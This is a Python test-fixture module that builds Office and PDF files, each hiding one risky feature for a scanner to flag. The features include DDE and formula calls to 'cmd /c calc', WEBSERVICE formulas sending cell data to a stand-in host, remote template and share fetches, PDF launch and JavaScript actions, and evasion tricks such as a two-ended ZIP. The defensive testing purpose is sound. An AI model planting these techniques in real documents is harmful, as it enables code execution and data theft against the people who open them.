"""Office papers and PDFs that hide something, made from the small whole ones of `tests.papers`: what it is, its kind, the answer."""

import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from tests.papers import CONTENT_TYPES, office, pdf

Case = tuple[str, str, Callable[[], bytes], str]
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
OTHER = 'xmlns:x="urn:x"'  # another reader takes no notice of its attributes
STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"


def text(inner: str) -> str:
    """A text of Word with something in its only paragraph."""
    return f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p>{inner}</w:p></w:body></w:document>'


def field(*pieces: str) -> str:
    """A field whose instruction is split over runs."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>' for piece in pieces)
    return f'<w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r>'


def sheet(inner: str, **members: str) -> bytes:
    """A workbook with one sheet."""
    body = f'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>{inner}</sheetData></worksheet>'
    return office("xl/workbook.xml", {"xl/worksheets/sheet1.xml": body, **members})


def cell(formula: str) -> str:
    """A row with one formula."""
    return f'<row r="1"><c r="A1"><f>{formula}</f><v>1</v></c></row>'


def rels(
    kind: str,
    target: str,
    *,
    mode: str = 'TargetMode="External"',
    of: str = "word/_rels/document.xml.rels",
    **more: str,
) -> bytes:
    """A text with one relationship. `more`: the opening of the file, the prefix of its names, the base of its type."""
    prefix, base = more.get("prefix", ""), more.get("base", TYPES)
    space = f'xmlns:{prefix.rstrip(":")}="{RELATIONS}"' if prefix else f'xmlns="{RELATIONS}"'
    line = f'<{prefix}Relationship Id="r1" Type="{base}/{kind}" Target="{target}" {mode}/>'
    body = f"{more.get('opening', '')}<{prefix}Relationships {space}>{line}</{prefix}Relationships>"
    return office(members={of: body.encode(more.get("encoding", "utf-8"))})


def part(name: str, body: str | bytes) -> bytes:
    """A text with one more member."""
    return office(members={name: body})


def typed(name: str, kind: str, body: str = "<a/>") -> bytes:
    """A text with one more member of a type of its own."""
    said = CONTENT_TYPES.replace("</Types>", f'<Override PartName="/{name}" ContentType="{kind}"/></Types>')
    return archive({"[Content_Types].xml": said, "word/document.xml": text(""), name: body})


def archive(members: Mapping[str, str | bytes], *, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An archive as the library writes it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", packing) as made:
        for name, body in members.items():
            made.writestr(name, body)
    return stream.getvalue()


def overlapping() -> bytes:
    """An archive whose directory names one member twice, under two names."""
    raw = bytearray(
        archive(
            {
                "[Content_Types].xml": CONTENT_TYPES,
                "word/document.xml": text(""),
                "word/a.xml": "<a/>",
                "word/b.xml": "<a/>",
            }
        )
    )
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as read:
        first, second = read.getinfo("word/a.xml").header_offset, read.getinfo("word/b.xml").header_offset
    place = raw.rfind(struct.pack("<I", second))
    raw[place : place + 4] = struct.pack("<I", first)
    return bytes(raw)


def between() -> bytes:
    """An archive with a member that its directory does not name."""
    raw = archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "word/vbaProject.bin": "x"})
    start = raw.find(b"PK\x01\x02")
    entries = raw[start:].split(b"PK\x01\x02")
    last = entries[-1]
    end = last[last.find(b"PK\x05\x06") :]
    directory = b"".join(b"PK\x01\x02" + one for one in entries[1:-1])
    closing = end[:8] + struct.pack("<HHII", 2, 2, len(directory), start) + end[20:]
    return raw[:start] + directory + closing


def twice() -> bytes:
    """An archive with two members whose names differ in capitals alone."""
    return archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "WORD/Document.xml": text("")})


def two_ends() -> bytes:
    """An archive with macros inside a picture of a harmless one: its end leads to the one, the end for large archives to the other.

    Python reads the harmless one; Info-ZIP and others, which look at the second end only where the first one says so, the other.
    """
    inner = bytearray(
        archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "word/vbaProject.bin": "x"})
    )
    raw = archive(
        {"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text(""), "word/media/a.dat": b"\x89PNG" + inner},
        packing=zipfile.ZIP_STORED,
    )
    count, size, start = struct.unpack_from("<HII", raw, raw.rfind(b"PK\x05\x06") + 10)
    inside = raw.find(b"\x89PNG") + 4
    its_count, its_size, its_start = struct.unpack_from("<HII", inner, inner.rfind(b"PK\x05\x06") + 10)
    place = its_start
    for _ in range(its_count):
        inner[place + 42 : place + 46] = struct.pack("<I", inside + struct.unpack_from("<I", inner, place + 42)[0])
        place += 46 + sum(struct.unpack_from("<HHH", inner, place + 28))
    body = raw[:inside] + inner + raw[inside + len(inner) : start + size]
    large = struct.pack("<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, count, count, size, start)
    large += struct.pack("<4sLQL", b"PK\x06\x07", 0, len(body), 1)
    return (
        body
        + large
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, its_count, its_count, its_size, inside + its_start, 0)
    )


def listed(*objects: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A PDF whose objects all stand on its table. Objects of one's own begin with number 4."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page,
        *objects,
    ]
    raw, places = b"%PDF-1.7\n", []
    for number, body in enumerate(bodies, start=1):
        places.append(len(raw))
        raw += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size, start = len(bodies) + 1, len(raw)
    raw += b"xref\n0 %d\n0000000000 65535 f \n" % size + table
    return raw + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, start)


def saved(change: Callable[..., None], **options: object) -> bytes:
    """A PDF as qpdf writes it, after a change: packed into streams of objects, or locked."""
    import pikepdf

    stream = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as paper:
        change(paper, pikepdf)
        paper.save(stream, **options)  # type: ignore[arg-type]  # whatever the case asks for
    return stream.getvalue()


def packed(change: Callable[..., None]) -> bytes:
    """The same with all objects packed into compressed streams."""
    import pikepdf

    return saved(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def _script(paper, pikepdf):  # type: ignore[no-untyped-def]  # a case's own change
    paper.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")


def _page_script(paper, pikepdf):  # type: ignore[no-untyped-def]  # a case's own change
    paper.pages[0].obj["/AA"] = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name("/URI"), URI="https://x.example/seen")
    )


def _attached(paper, pikepdf):  # type: ignore[no-untyped-def]  # a case's own change
    paper.attachments["a.exe"] = b"MZ"


def _nothing(paper, pikepdf):  # type: ignore[no-untyped-def]  # a case's own change
    paper.docinfo["/Title"] = "x"


def locked() -> bytes:
    """A PDF that opens without a password and forbids printing."""
    import pikepdf

    return saved(_nothing, encryption=pikepdf.Encryption(owner="o", user="", R=6))


def looping() -> bytes:
    """A PDF whose pages are their own parents."""
    raw = pdf()
    return raw.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]")


def nested() -> bytes:
    """A PDF with an array in an array, five hundred deep."""
    return listed(b"[" * 450 + b"]" * 450)


OFFICE: tuple[Case, ...] = (
    ("a document type in UTF-16", "docx", lambda: part("word/a.xml", '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")), "flow.E042"),
    ("a document type behind a comment of 100 KB", "docx", lambda: part("word/a.xml", f"<!--{'x' * 100_000}--><!DOCTYPE a><a/>"), "flow.E042"),
    ("a document type in a member without the ending of XML", "docx", lambda: part("word/media/a.dat", "<!DOCTYPE a><a/>"), "flow.E042"),
    ("a document type in a drawing", "docx", lambda: part("word/media/a.svg", "<!DOCTYPE svg><svg/>"), "flow.E042"),
    ("an entity that makes a word", "docx", lambda: part("word/a.xml", '<!DOCTYPE a [<!ENTITY d "DDE">]><a>&d;</a>'), "flow.E042"),
    ("XML in UTF-7", "docx", lambda: part("word/a.xml", '<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE a+AD4-'), "flow.E042"),
    ("XML that is none by its type", "docx", lambda: typed("word/b.dat", "application/x+xml", "+ADw-"), "flow.E042"),
    ("XML cut off", "docx", lambda: part("word/a.xml", "<a><b>"), "flow.E042"),
    ("an outside template with a prefix of its own", "docx", lambda: rels("attachedTemplate", "https://x.example/t.dotm", prefix="q:"), "flow.E047"),
    ("an outside template with letters as numbers", "docx", lambda: rels("attached&#84;emplate", "&#104;ttps://x.example/t.dotm"), "flow.E047"),
    ("an outside template in UTF-16", "docx", lambda: rels("attachedTemplate", "https://x.example/t.dotm", opening='<?xml version="1.0" encoding="utf-16"?>', encoding="utf-16"), "flow.E047"),
    ("an outside template on a share", "docx", lambda: rels("attachedTemplate", "file:////10.0.0.1/t/t.dotm"), "flow.E047"),
    ("an outside template of the strict form", "docx", lambda: rels("attachedTemplate", "https://x.example/t.dotm", base=STRICT), "flow.E047"),
    ("an outside mode in single quotes and capitals", "docx", lambda: rels("image", "https://x.example/seen.png", mode="TargetMode = 'EXTERNAL'"), "flow.E047"),
    ("an outside address that is said to be inside", "docx", lambda: rels("image", "https://x.example/seen.png", mode=""), "flow.E047"),
    ("a share that is said to be inside", "docx", lambda: rels("image", "\\\\10.0.0.1\\a.png", mode='TargetMode="Internal"'), "flow.E047"),
    ("a film of a page in a frame", "docx", lambda: office(content=text('<wp15:webVideoPr xmlns:wp15="v" embeddedHtml="&lt;iframe/&gt;"/>')), "flow.E047"),
    ("a picture from a page", "docx", lambda: rels("image", "https://x.example/seen.png"), "flow.E047"),
    ("relationships under another name", "docx", lambda: rels("image", "https://x.example/seen.png", of="word/other.xml"), "flow.E047"),
    ("a link that runs a program", "docx", lambda: rels("hyperlink", "javascript:alert(1)"), "flow.E047"),
    ("a link to a program beside it", "docx", lambda: rels("hyperlink", "setup.exe"), "flow.E047"),
    ("a link to a share with escaped strokes", "docx", lambda: rels("hyperlink", "%5C%5C10.0.0.1%5Cx"), "flow.E047"),
    ("another page as a part", "docx", lambda: rels("aFChunk", "afchunk.mht", mode=""), "flow.E048"),
    ("an embedded object by its relationship", "docx", lambda: rels("oleObject", "media/x.dat", mode=""), "flow.E048"),
    ("a part of another paper", "docx", lambda: rels("subDocument", "b.docx", mode=""), "flow.E048"),
    ("macros by their relationship alone", "docx", lambda: rels("vbaProject", "media/x.dat", mode="", base="http://schemas.microsoft.com/office/2006/relationships"), "flow.E045"),
    ("buttons of one's own", "docx", lambda: rels("extensibility", "ui.xml", mode="", base="http://schemas.microsoft.com/office/2007/relationships/ui"), "flow.E045"),
    ("a control by its type", "docx", lambda: typed("word/x.xml", "application/vnd.ms-office.activeX+xml"), "flow.E045"),
    ("macros by the type of the main part", "docx", lambda: typed("word/document2.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), "flow.E045"),
    ("macros under a harmless name by their type", "docx", lambda: typed("word/x.dat", "application/vnd.ms-office.VBAProject", "x"), "flow.E045"),
    ("a folder of buttons", "docx", lambda: part("customUI/customUI.xml", "<customUI/>"), "flow.E045"),
    ("DDE split over runs", "docx", lambda: office(content=text(field("DD", "E", "AUTO c:\\\\x\\\\cmd", ' "/c calc"'))), "flow.E047"),
    ("DDE in small letters", "docx", lambda: office(content=text(field("  ddeauto cmd"))), "flow.E047"),
    ("DDE with letters as numbers", "docx", lambda: office(content=text(field("&#68;&#x44;E cmd"))), "flow.E047"),
    ("DDE in a simple field", "docx", lambda: office(content=text('<w:fldSimple w:instr="DDE cmd"/>')), "flow.E047"),
    ("DDE in quotes", "docx", lambda: office(content=text(field('"DDEAUTO" cmd'))), "flow.E047"),
    ("DDE in the header of the page", "docx", lambda: part("word/header1.xml", text(field("DDE cmd"))), "flow.E047"),
    ("DDE with another prefix", "docx", lambda: office(content=text(field("DDE cmd")).replace("w:", "q:").replace("xmlns:w", "xmlns:q")), "flow.E047"),
    ("a field that computes what the outer one does", "docx", lambda: office(content=text(field('</w:instrText></w:r>' + field("QUOTE 68 68 69") + "<w:r><w:instrText>"))), "flow.E047"),
    ("a field that fetches a picture", "docx", lambda: office(content=text(field(' INCLUDEPICTURE "https://x.example/a.png" \\d '))), "flow.E047"),
    ("a field that fetches a text", "docx", lambda: office(content=text(field('INCLUDETEXT "\\\\\\\\10.0.0.1\\\\a.docx"'))), "flow.E047"),
    ("a field that fetches data", "docx", lambda: office(content=text(field("DATABASE \\d x"))), "flow.E047"),
    ("a field with a link to a share", "docx", lambda: office(content=text(field('HYPERLINK "\\\\\\\\10.0.0.1\\\\a"'))), "flow.E047"),
    ("a picture from a page inside a drawing", "docx", lambda: part("word/d.vml", '<xml xmlns:v="v"><v:imagedata src="https://x.example/a.png"/></xml>'), "flow.E047"),
    ("an object element", "docx", lambda: office(content=text('<o:OLEObject xmlns:o="o" ProgID="Package"/>')), "flow.E048"),
    ("a part in another form", "docx", lambda: office(content=text('<w:altChunk w:id="r1"/>')), "flow.E048"),
    ("a workbook inside with macros", "docx", lambda: part("word/embeddings/book.xlsx", archive({"[Content_Types].xml": CONTENT_TYPES, "xl/workbook.xml": "<a/>", "xl/vbaProject.bin": "x"})), "flow.E045"),
    ("a workbook inside a workbook inside", "docx", lambda: part("word/embeddings/a.xlsx", office("xl/workbook.xml", {"xl/embeddings/b.xlsx": office("xl/workbook.xml")})), "flow.E048"),
    ("an old office file as a picture", "docx", lambda: part("word/media/a.png", b"\xd0\xcf\x11\xe0" + b"\0" * 600), "flow.E048"),
    ("a shortcut of Windows", "docx", lambda: part("word/media/a.dat", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60), "flow.E048"),
    ("a program called by a formula", "xlsx", lambda: sheet(cell("cmd|'/c calc'!A0")), "flow.E047"),
    ("a program called by a formula with a sign", "xlsx", lambda: sheet(cell("+cmd|'/c calc'!A0")), "flow.E047"),
    ("a page asked by a formula", "xlsx", lambda: sheet(cell("WEBSERVICE(&quot;https://x.example/?&quot;&amp;A2)")), "flow.E047"),
    ("a name that stands for a program", "xlsx", lambda: office("xl/workbook.xml", content="<workbook><definedNames><definedName name='a'>cmd|'/c calc'!A0</definedName></definedNames></workbook>"), "flow.E047"),
    ("another workbook that is asked", "xlsx", lambda: office("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}), "flow.E047"),
    ("a program asked by DDE", "xlsx", lambda: office("xl/workbook.xml", {"xl/links.xml": '<externalLink><ddeLink ddeService="cmd" ddeTopic="x"/></externalLink>'}), "flow.E047"),
    ("a connection that asks on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/connections.xml": '<connections><connection id="1" name="c" refreshOnLoad="1"/></connections>'}), "flow.E047"),
    ("sheets of old macros", "xlsx", lambda: office("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": "<a/>"}), "flow.E045"),
    ("a field that says two things", "docx", lambda: office(content=text(f'<w:fldSimple w:instr=" INCLUDEPICTURE &quot;https://x.example/a.png&quot; " {OTHER} x:instr=" PAGE "/>')), "flow.E042"),
    ("a relationship that says two things", "docx", lambda: rels("attachedTemplate", "https://x.example/t.dotm", mode=f'TargetMode="External" {OTHER} x:TargetMode="Internal" x:Target="a.dotx"'), "flow.E042"),
    ("a picture with two addresses", "docx", lambda: part("word/d.vml", f'<xml xmlns:v="v" {OTHER}><v:imagedata src="https://x.example/a.png" x:src="#a"/></xml>'), "flow.E042"),
    ("a field whose first word another one ends", "docx", lambda: office(content=text(field("INC</w:instrText></w:r>" + field("QUOTE LUDEPICTURE") + '<w:r><w:instrText> "https://x.example/a.png"'))), "flow.E047"),
    ("a field with a link that is no page behind a switch", "docx", lambda: office(content=text(field('HYPERLINK \\t "_blank" "javascript:x"'))), "flow.E047"),
    ("a field with a link behind a space", "docx", lambda: office(content=text(field('HYPERLINK " javascript:x"'))), "flow.E047"),
    ("a link with a tab in its scheme", "docx", lambda: rels("hyperlink", "java&#9;script:x"), "flow.E047"),
    ("a program of a page beside the paper", "docx", lambda: rels("webextension", "webextension1.xml", mode="", base="http://schemas.microsoft.com/office/2011/relationships"), "flow.E045"),
    ("a program called within a formula", "xlsx", lambda: sheet(cell("1+cmd|'/c calc'!A0")), "flow.E047"),
    ("a program called by a name in quotes", "xlsx", lambda: sheet(cell("SUM('cmd'|'/c calc'!A0)")), "flow.E047"),
    ("a page asked behind the name of a sheet", "xlsx", lambda: sheet(cell("'a&quot;'!A1&amp;WEBSERVICE(&quot;https://x.example/?&quot;&amp;A2)")), "flow.E047"),
    ("a picture fetched from an address in a cell", "xlsx", lambda: sheet(cell("_xlfn.IMAGE(A2)")), "flow.E047"),
    ("a link to a share by a formula", "xlsx", lambda: sheet(cell("HYPERLINK(&quot;\\\\10.0.0.1\\a&quot;)")), "flow.E047"),
    ("a page asked by the formula of a table", "xlsx", lambda: office("xl/workbook.xml", {"xl/tables/table1.xml": "<calculatedColumnFormula>WEBSERVICE(A2)</calculatedColumnFormula>"}), "flow.E047"),
    ("a question that is asked on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/queryTables/queryTable1.xml": '<queryTable name="q" connectionId="1" refreshOnLoad="1"/>'}), "flow.E047"),
    ("a connection that asks every minute", "xlsx", lambda: office("xl/workbook.xml", {"xl/connections.xml": '<connections><connection id="1" name="c" interval="1"/></connections>'}), "flow.E047"),
    ("a table of figures that asks elsewhere on opening", "xlsx", lambda: office("xl/workbook.xml", {"xl/pivotCache/a.xml": '<pivotCacheDefinition refreshOnLoad="1"><cacheSource type="external" connectionId="1"/></pivotCacheDefinition>'}), "flow.E047"),
    ("an archive with two ends", "docx", two_ends, "flow.E043"),
    ("a member twice", "docx", overlapping, "flow.E042"),
    ("a member between that the list does not name", "docx", between, "flow.E042"),
    ("names that differ in capitals alone", "docx", twice, "flow.E044"),
    ("a path with backward strokes", "docx", lambda: part("..\\..\\a.xml", "<a/>"), "flow.E044"),
    ("a path with a drive", "docx", lambda: part("C:/a.xml", "<a/>"), "flow.E044"),
    ("an unusual packing", "docx", lambda: archive({"[Content_Types].xml": CONTENT_TYPES, "word/document.xml": text("")}, packing=zipfile.ZIP_LZMA), "flow.E042"),
    ("a text under the name of a workbook", "xlsx", office, "flow.E032"),
)  # fmt: skip
PDF: tuple[Case, ...] = (
    ("a script on opening", "pdf", lambda: listed(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), "flow.E040"),
    ("a script packed in a stream of objects", "pdf", lambda: packed(_script), "flow.E040"),
    ("a script in escaped letters on opening", "pdf", lambda: listed(b"<< /#53 /J#61vaScript /J#53 (x) >>", catalog=b"/Op#65nAction 4 0 R"), "flow.E040"),
    ("a script in the tree of names", "pdf", lambda: listed(b"<< /Names [(a) 5 0 R] >>", b"<< /S /Trans >>", catalog=b"/Names << /JavaScript 4 0 R >>"), "flow.E040"),
    ("a script behind harmless actions", "pdf", lambda: listed(b"<< /S /GoTo /D [3 0 R /Fit] /Next << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> >>", catalog=b"/OpenAction 4 0 R"), "flow.E040"),
    ("a page asked on opening", "pdf", lambda: listed(catalog=b"/OpenAction << /S /URI /URI (https://x.example/seen) >>"), "flow.E040"),
    ("a page asked by an action that is also a place", "pdf", lambda: listed(catalog=b"/OpenAction << /S /URI /URI (https://x.example/seen) /D [3 0 R /Fit] >>"), "flow.E040"),
    ("a link with a space before its scheme", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI ( java\\tscript:x) >> >>]"), "flow.E040"),
    ("a body of three dimensions, which may run a script", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /3D >>]"), "flow.E040"),
    ("a link to another file on no table", "pdf", lambda: pdf(extra=b"9 0 obj\n<< /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D [0 /Fit] >>\nendobj\n"), "flow.E040"),
    ("a page asked behind a harmless action", "pdf", lambda: listed(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://x.example) >>] >>"), "flow.E040"),
    ("a page asked when a page is shown", "pdf", lambda: packed(_page_script), "flow.E040"),
    ("a program started by a link", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]"), "flow.E040"),
    ("a link to another file", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /GoToR /F (\\\\\\\\10.0.0.1\\\\a.pdf) /D [0 /Fit] >> >>]"), "flow.E040"),
    ("a link into a file inside", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /GoToE /D [0 /Fit] >> >>]"), "flow.E040"),
    ("a link that runs a script", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (javascript:x) >> >>]"), "flow.E040"),
    ("a link to a share", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /URI /URI (file:////10.0.0.1/x) >> >>]"), "flow.E040"),
    ("a form that is sent", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (https://x.example) >> >>]"), "flow.E040"),
    ("a form that takes data in", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Widget /A << /S /ImportData /F (a.fdf) >> >>]"), "flow.E040"),
    ("a form of the other kind", "pdf", lambda: listed(catalog=b"/AcroForm << /Fields [] /XFA [(a) (b)] >>"), "flow.E040"),
    ("a file inside", "pdf", lambda: packed(_attached), "flow.E040"),
    ("a file behind a mark on the page", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /FileAttachment /FS << /F (a) >> >>]"), "flow.E040"),
    ("a film", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /RichMedia >>]"), "flow.E040"),
    ("a sound by an action", "pdf", lambda: listed(page=b"/Annots [<< /Subtype /Link /A << /S /Rendition /OP 0 >> >>]"), "flow.E040"),
    ("a stream whose bytes lie elsewhere", "pdf", lambda: listed(b"<< /Length 0 /F (https://x.example/a) >>\nstream\n\nendstream"), "flow.E040"),
    ("a page of another file as a picture", "pdf", lambda: listed(b"<< /Subtype /Form /Ref << /F (a.pdf) /Page 0 >> /Length 0 >>\nstream\n\nendstream"), "flow.E040"),
    ("a script on no table", "pdf", lambda: pdf(extra=b"9 0 obj\n<</S/J#61vaScript/JS 5 0 R>>\nendobj\n"), "flow.E040"),
    ("a script beside an address that hides it", "pdf", lambda: pdf(extra=b"9 0 obj\n<< /URI#28 1 /S /JavaScript /JS (x) >>\nendobj\n"), "flow.E040"),
    ("a lock without a password", "pdf", locked, "flow.E039"),
    ("pages that are their own parents", "pdf", looping, "flow.E037"),
    ("no page at all", "pdf", lambda: pdf().replace(b"/Kids [3 0 R] /Count 1", b"/Kids [] /Count 0     "), "flow.E037"),
    ("arrays within arrays", "pdf", nested, "flow.E085"),
    ("nonsense with the right ends", "pdf", lambda: b"%PDF-1.7\n" + b"x" * 400 + b"\nstartxref\n0\n%%EOF\n", "flow.E037"),
)  # fmt: skip
